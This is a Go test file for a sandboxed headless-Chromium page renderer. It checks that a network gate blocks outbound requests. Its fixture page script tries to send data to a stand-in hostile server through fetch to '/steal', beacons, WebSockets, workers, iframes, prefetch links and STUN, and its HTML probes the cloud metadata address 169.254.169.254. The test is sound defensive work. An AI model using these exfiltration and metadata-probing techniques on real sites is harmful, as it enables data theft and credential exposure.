package render

import (
	"bytes"
	"context"
	"image/png"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"vigie/crawlers"
	"vigie/internal/breach"
)

func chromium(t *testing.T) *Browser {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if path, err := exec.LookPath(name); err == nil {
			return &Browser{Path: path, NoSandbox: os.Geteuid() == 0, Limit: time.Minute}
		}
	}
	t.Skip("no Chromium is installed")
	return nil
}

// plain is a gate that lets one server be reached, and notes what was asked.
type plain struct {
	host string
	mu   sync.Mutex
	asks []string
}

func (p *plain) RoundTrip(req *http.Request) (*http.Response, error) {
	p.mu.Lock()
	p.asks = append(p.asks, req.URL.String())
	p.mu.Unlock()
	if req.URL.Host != p.host {
		return nil, breach.ErrForbidden
	}
	return http.DefaultTransport.RoundTrip(req)
}

const shell = `<!doctype html><title>x</title><div id="root"></div>
<script src="/app.js"></script><img src="http://169.254.169.254/latest/meta-data/">`

const script = `
fetch("/api/posts").then(r => r.json()).then(list => {
	document.getElementById("root").innerHTML = list.map(p => "<h2>" + p + "</h2>").join("")
});
fetch("HOSTILE/steal");
fetch("/api/posts", {method: "POST", body: "x"});
try { new WebSocket("WS/socket") } catch (e) {}
navigator.sendBeacon("HOSTILE/beacon", "x");
new Worker(URL.createObjectURL(new Blob(["fetch('HOSTILE/worker')"])));
document.head.insertAdjacentHTML("beforeend", "<link rel='dns-prefetch' href='//HOST'><link rel='preconnect' href='HOSTILE'><link rel=prefetch href='HOSTILE/prefetch'>");
const f = document.createElement("iframe"); f.src = "HOSTILE/frame"; document.body.append(f);
try { new RTCPeerConnection({iceServers: [{urls: "stun:HOST"}]}).createDataChannel("x") } catch (e) {}
window.open("HOSTILE/popup");
const a = document.createElement("a"); a.href = "/file.zip"; a.download = "file.zip"; a.click();
`

// A page that tries every way out shows its posts and reaches nobody.
func TestRender(t *testing.T) {
	t.Parallel()
	b := chromium(t)
	var leaked atomic.Int64
	other := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { leaked.Add(1) }))
	defer other.Close()
	udp, err := net.ListenPacket("udp", other.Listener.Addr().String()) // where STUN would knock
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = udp.Close() }()
	go func() {
		for buf := make([]byte, 1500); ; leaked.Add(1) {
			if _, _, err := udp.ReadFrom(buf); err != nil {
				return
			}
		}
	}()
	posts := 0
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case r.Method != http.MethodGet:
			posts++
		case r.URL.Path == "/":
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(shell))
		case r.URL.Path == "/app.js":
			w.Header().Set("Content-Type", "text/javascript")
			hostile := strings.NewReplacer("HOSTILE", other.URL, "WS", "ws"+strings.TrimPrefix(other.URL, "http"), "HOST", strings.TrimPrefix(other.URL, "http://"))
			_, _ = w.Write([]byte(hostile.Replace(script)))
		case r.URL.Path == "/api/posts":
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte(`["Mairie inventée", "Syndicat inventé"]`))
		}
	}))
	defer site.Close()
	g := &plain{host: strings.TrimPrefix(site.URL, "http://")}
	made, err := b.Render(t.Context(), site.URL+"/", g)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(made.DOM, []byte("<h2>Mairie inventée</h2><h2>Syndicat inventé</h2>")) {
		t.Errorf("DOM: %.400s", made.DOM)
	}
	if img, err := png.Decode(bytes.NewReader(made.Screenshot)); err != nil || img.Bounds().Dx() < 600 {
		t.Errorf("screenshot: %v", err)
	}
	if leaked.Load() != 0 || posts != 0 {
		t.Errorf("%d requests reached another server, %d were not GET", leaked.Load(), posts)
	}
	all := strings.Join(g.asks, " ")
	for _, want := range []string{"/app.js", "/api/posts", "/steal", "169.254.169.254"} {
		if !strings.Contains(all, want) {
			t.Errorf("the gate was not asked for %s: %s", want, all)
		}
	}
}

// A page that never ends is ended.
func TestRenderIsBounded(t *testing.T) {
	t.Parallel()
	b := chromium(t)
	b.Limit = 5 * time.Second
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte(`<script>for(;;){}</script>`))
	}))
	defer site.Close()
	started := time.Now()
	_, err := b.Render(t.Context(), site.URL+"/", &plain{host: strings.TrimPrefix(site.URL, "http://")})
	if err == nil || time.Since(started) > 20*time.Second {
		t.Errorf("%v after %s", err, time.Since(started))
	}
}

// In a visit the requests of a page are checked and recorded as all others.
func TestRenderInAVisit(t *testing.T) {
	t.Parallel()
	b := chromium(t)
	site := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			_, _ = w.Write([]byte(`<div id="root"></div><script src="/app.js"></script>`))
		case "/app.js":
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = w.Write([]byte(`fetch("/da" + "ta").then(r => r.text()).then(s => { document.getElementById("root").innerHTML = "<h2>" + s + "</h2>" })`))
		case "/data":
			w.Header().Set("Content-Type", "application/json")
			_, _ = w.Write([]byte("Mairie inventée"))
		}
	}))
	defer site.Close()
	rec := &recorder{}
	c := &crawlers.Crawler{Reader: reader{}, Renderer: b, Limits: crawlers.DefaultLimits(), Now: time.Now, Tool: "vigie test",
		Begin: func(context.Context, breach.Source) (crawlers.Recorder, error) { return rec, nil }}
	v, err := c.Visit(t.Context(), breach.Source{ID: "invented", URL: site.URL + "/", Local: true, Render: true})
	if err != nil || len(v.Posts) != 1 || v.Posts[0].Title != "Mairie inventée" {
		t.Fatalf("%+v %v", v, err)
	}
	if all := strings.Join(rec.urls, " "); !strings.Contains(all, "/data") || len(rec.made) != 2 {
		t.Errorf("recorded %s and %d resources", all, len(rec.made))
	}
}

type recorder struct {
	urls []string
	made []breach.Resource
}

func (r *recorder) Record(_ context.Context, ex breach.Exchange) (breach.Capture, error) {
	r.urls = append(r.urls, ex.URL)
	return breach.Capture{ID: breach.CaptureID(breach.NewID("cap")), Status: ex.Status}, nil
}
func (r *recorder) Resource(_ context.Context, x breach.Resource) error {
	r.made = append(r.made, x)
	return nil
}
func (r *recorder) Close(context.Context) ([]breach.Capture, error) { return nil, nil }
func (r *recorder) Abort()                                          {}

type reader struct{}

func (reader) Read(p crawlers.Page) crawlers.Reading {
	if _, after, found := strings.Cut(string(p.Body), "<h2>"); found {
		title, _, _ := strings.Cut(after, "<")
		return crawlers.Reading{State: crawlers.StateListing, Posts: []breach.Post{{Title: title}}}
	}
	return crawlers.Reading{State: crawlers.StateShell}
}
func (reader) Complete(p breach.Post, _ crawlers.Page) breach.Post { return p }
